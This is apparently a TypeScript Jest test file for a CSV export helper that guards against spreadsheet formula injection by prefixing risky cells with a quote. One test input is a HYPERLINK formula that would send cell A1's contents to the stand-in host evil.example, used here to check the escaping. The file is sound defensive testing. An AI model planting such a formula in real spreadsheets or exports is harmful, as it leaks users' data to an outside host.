import { csvCell, neutralizeFormula, toCsv } from './csv';

describe('CSV formula injection (OWASP): a text cell that would start a formula', () => {
  it('is prefixed with a single quote when it starts with = + - @ tab or CR', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralizeFormula(s)).toBe(`'${s}`);
  });
  it('leaves other text alone, also a formula character later in the text', () => {
    for (const s of ['经贸交流', 'a=b', '1-2', "'=x", '', ' =1', '２０２６']) expect(neutralizeFormula(s)).toBe(s);
  });
  it("writes the trial's title as quoted text that starts with the quote, its inner quotes doubled", () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
    expect(csvCell(title)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
  });
  it('keeps numbers numbers: a negative slack is written -3.5, not as text', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell('-3.5')).toBe("'-3.5"); // text that looks like a number is still text
  });
  it('neutralizes every cell of the table, header included, with the BOM and CRLF', () => {
    expect(
      toCsv({
        header: ['标题 Title', '@h'],
        rows: [
          ['+x', -2],
          ['ok', null],
        ],
      }),
    ).toBe("\ufeff标题 Title,'@h\r\n'+x,-2\r\nok,\r\n");
  });
});
